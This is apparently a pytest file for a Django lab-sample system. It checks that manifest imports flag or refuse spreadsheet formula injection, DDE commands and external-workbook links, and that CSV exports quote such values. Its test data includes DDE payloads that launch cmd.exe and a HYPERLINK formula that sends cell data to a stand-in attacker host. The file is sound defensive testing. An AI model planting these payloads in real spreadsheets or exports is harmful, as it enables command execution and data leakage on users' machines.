"""Formula cells, references to other workbooks and DDE in manifests: warned about or refused in the dry run,
per row and column, before anything is committed; on the import page too."""

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from evlims.core.spreadsheets import DDE, EXTERNAL_REFERENCE, FORMULA, external_links, formula_risk
from evlims.samples.models import ManifestImport, Sample
from evlims.samples.services import manifests

from .conftest import checked_upload, csv_bytes

Status = ManifestImport.Status
HEADER = ["barcode", "biofluid", "volume_ml", "remarks"]


def problems_by_cell(manifest):
    return {(p["row"], p["column"]): (p["severity"], p["message"]) for p in manifest.errors}


def workbook(rows, *, text_cells=(), links=()) -> bytes:
    """An .xlsx whose '=' strings are formula cells, except ``text_cells`` ((row, column), 1-based) kept as text;
    ``links`` adds externalLink parts with these targets."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Manifest"
    for row in rows:
        sheet.append(row)
    for row, column in text_cells:
        sheet.cell(row=row, column=column).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    if not links:
        return buffer.getvalue()
    with zipfile.ZipFile(buffer, "a") as archive:
        for number, target in enumerate(links, start=1):
            archive.writestr(
                f"xl/externalLinks/externalLink{number}.xml",
                '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
            )
            archive.writestr(
                f"xl/externalLinks/_rels/externalLink{number}.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Target="{target}" TargetMode="External" Type="http://schemas.openxml'
                'formats.org/officeDocument/2006/relationships/externalLinkPath"/></Relationships>',
            )
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("value", "risk"),
    [
        ("=cmd|' /C calc'!A0", DDE),
        ("@SUM(1+1)*cmd|' /C calc'!A0", DDE),
        ("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", DDE),
        ('=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', DDE),
        ("=[1]Sheet1!A1", EXTERNAL_REFERENCE),
        ("='C:\\data\\[visits.xlsx]Sheet1'!B2", EXTERNAL_REFERENCE),
        ('=HYPERLINK("http://attacker.invalid/?"&A1,"click")', FORMULA),
        ("+SUM(1,1)", FORMULA),
        ("-1+1", FORMULA),
        ("@SUM(A1:A2)", FORMULA),
        ("\t=1+1", FORMULA),
        ("-80 °C freezer", None),
        ("+4 °C", None),
        ("- none", None),
        ("@home", None),
        ("cmd|' /C calc'!A0 without a leading =", None),
    ],
)
def test_what_a_spreadsheet_would_run(value, risk):
    assert formula_risk(value) == risk


def test_csv_formula_text_is_warned_per_row_and_column_and_committed_as_text(staff, project):
    rows = [
        HEADER + ["external_id"],
        ["F-1", "serum", "1", '=HYPERLINK("http://attacker.invalid/?"&A1)', "+SUM(1;1)"],
        ["F-2", "serum", "1", "-80 °C freezer", "SITE-2"],
    ]
    manifest = checked_upload(staff, project, csv_bytes(rows))
    assert manifest.status == Status.VALID, manifest.errors
    found = problems_by_cell(manifest)
    assert set(found) == {(2, "remarks"), (2, "external_id")}
    assert all(severity == "warning" for severity, _ in found.values())
    assert "starts like a spreadsheet formula" in found[2, "remarks"][1]
    manifests.manifest_commit(manifest=manifest, actor=staff)
    stored = Sample.objects.get(barcode="F-1")
    assert stored.remarks.startswith("=HYPERLINK(") and stored.external_id == "+SUM(1;1)"


def test_dde_and_references_to_other_workbooks_are_refused(staff, project):
    rows = [
        HEADER + ["colour"],
        ["D-1", "serum", "1", "=cmd|' /C calc'!A0", "fine"],
        ["D-2", "serum", "1", "=[1]Sheet1!A1", "fine"],
        ["D-3", "serum", "1", "plain", '=DDE("cmd";"/C calc";"x")'],
        ["D-4", "serum", "1", "plain", "=[1]Sheet1!A1"],
    ]
    manifest = checked_upload(staff, project, csv_bytes(rows))
    assert manifest.status == Status.INVALID
    found = problems_by_cell(manifest)
    assert found[2, "remarks"][0] == "error" and "DDE command" in found[2, "remarks"][1]
    assert found[3, "remarks"][0] == "error" and "refers to another workbook" in found[3, "remarks"][1]
    # A column the import ignores is still refused for DDE; its other values are not read, so not warned about.
    assert found[4, "colour"][0] == "error" and "DDE command" in found[4, "colour"][1]
    assert (5, "colour") not in found
    assert not Sample.objects.exists()


def test_dde_in_the_header_row_is_refused(staff, project):
    manifest = checked_upload(staff, project, csv_bytes([HEADER + ["=cmd|' /C calc'!A0"], ["H-1", "serum", "1", ""]]))
    assert manifest.status == Status.INVALID
    assert problems_by_cell(manifest)[1, "column 5"][0] == "error"


def test_xlsx_formula_cells_are_told_apart_from_text_and_warned_about(staff, project):
    data = workbook(
        [HEADER, ["X-1", "serum", 1, '=A2&"-extra"'], ["X-2", "serum", 2, "=1+1"], ["X-3", "serum", "=1+2", "ok"]],
        text_cells=[(3, 4)],
    )
    manifest = checked_upload(staff, project, data, name="site.xlsx")
    found = problems_by_cell(manifest)
    assert found[2, "remarks"] == (
        "warning",
        "This cell holds a formula, '=A2&\"-extra\"': its text is imported, not the value Excel shows. "
        "To import the value, copy the column and paste it as values, then upload the file again.",
    )
    assert found[3, "remarks"][0] == "warning" and "starts like a spreadsheet formula" in found[3, "remarks"][1]
    # A formula in a number column is an error already (enter the value itself), with no warning on top.
    assert found[4, "volume_ml"][0] == "error" and "formula" in found[4, "volume_ml"][1]
    assert [p for p in manifest.errors if (p["row"], p["column"]) == (4, "volume_ml")] == [manifest.errors[-1]]


def test_xlsx_links_to_other_workbooks_are_named_and_their_references_refused(staff, project):
    data = workbook(
        [HEADER, ["L-1", "serum", 1, "=[1]Sheet1!A1"], ["L-2", "serum", 2, "plain"]],
        links=["file:///C:/Users/lab/secret%20visits.xlsx"],
    )
    assert external_links(data) == ["file:///C:/Users/lab/secret%20visits.xlsx"]
    manifest = checked_upload(staff, project, data, name="linked.xlsx")
    assert manifest.status == Status.INVALID
    found = problems_by_cell(manifest)
    assert found[2, "remarks"][0] == "error" and "refers to another workbook" in found[2, "remarks"][1]
    assert found[None, ""] == (
        "warning",
        "The workbook links to another workbook (file:///C:/Users/lab/secret%20visits.xlsx); nothing is read from it.",
    )


def test_the_corpus_workbook_with_real_formula_cells(staff, project):
    from pathlib import Path

    data = (Path(__file__).resolve().parents[1] / "fixtures/hostile/manifest-formula-injection.xlsx").read_bytes()
    manifest = checked_upload(staff, project, data, name="formulas.xlsx")
    found = problems_by_cell(manifest)
    assert manifest.status == Status.INVALID
    last = max(row for row, _ in found if row)
    # The formula row: CMD|'/C calc'!A0 (a real formula cell) is refused, the other formula cells warned or refused.
    assert found[last, "remarks"][0] == "error" and "DDE command" in found[last, "remarks"][1]
    # The others sit in number and choice columns (or the barcode), which refuse a formula anyway.
    assert {found[last, column][0] for column in ("barcode", "biofluid", "volume_ml")} == {"error"}


# The import page ----------------------------------------------------------------------------------------------


@pytest.fixture
def staff_client(client, staff):
    client.force_login(staff)
    return client


def test_the_import_page_shows_the_formula_warning_before_commit(staff_client, project):
    data = csv_bytes([HEADER, ["W-1", "serum", "1", '=HYPERLINK("http://attacker.invalid/")']])
    response = staff_client.post(
        reverse("evlims:import-upload"), {"project": project.pk, "file": SimpleUploadedFile("w.csv", data)}
    )
    manifest = ManifestImport.objects.get()
    assert response.status_code == 302 and manifest.status == Status.VALID
    page = staff_client.get(reverse("evlims:import-detail", args=[manifest.pk])).content.decode()
    assert "starts like a spreadsheet formula" in page and "=HYPERLINK(" in page and "remarks" in page
    assert 'id="import-preview"' in page and "Commit 1 sample" in page
    assert not Sample.objects.exists()


def test_the_import_page_refuses_a_dde_payload(staff_client, project):
    data = csv_bytes([HEADER, ["W-1", "serum", "1", "=cmd|' /C calc'!A0"]])
    staff_client.post(
        reverse("evlims:import-upload"), {"project": project.pk, "file": SimpleUploadedFile("d.csv", data)}
    )
    manifest = ManifestImport.objects.get()
    assert manifest.status == Status.INVALID
    page = staff_client.get(reverse("evlims:import-detail", args=[manifest.pk])).content.decode()
    assert "is a DDE command" in page and 'id="import-preview"' not in page
    assert not Sample.objects.exists()


# Exports --------------------------------------------------------------------------------------------------

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
    "+SUM(1,1)",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=[1]Sheet1!A1",
]


def _cells(text: str) -> list[str]:
    import csv

    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_every_csv_the_lims_produces_shows_formulas_as_text():
    """The CSV writers of the product: verdicts and checklists, dashboard and control-chart tables, the
    manifest problem report. Each quotes a cell a spreadsheet would run (a leading apostrophe)."""
    from evlims.samples.import_files import problems_csv
    from evlims.web.reports.exports import csv_text
    from evlims.web.views.data_tables import DataTable

    columns = ("a", "b")
    written = {
        "verdicts and checklists": csv_text(columns, [{"a": value, "b": value} for value in PAYLOADS]),
        "dashboard tables": DataTable(
            name="t",
            title="t",
            columns=[("a", "A", "text"), ("b", "B", "num")],
            rows=[{"a": v, "b": v} for v in PAYLOADS],
        )
        .csv_response()
        .content.decode("utf-8"),
        "problem report": problems_csv(
            [{"row": 2, "column": value, "severity": "error", "message": value} for value in PAYLOADS]
        ).decode("utf-8"),
    }
    for name, text in written.items():
        cells = _cells(text)
        assert len(cells) >= 2 * len(PAYLOADS), name
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], name
        assert f"'{PAYLOADS[0]}" in cells, name
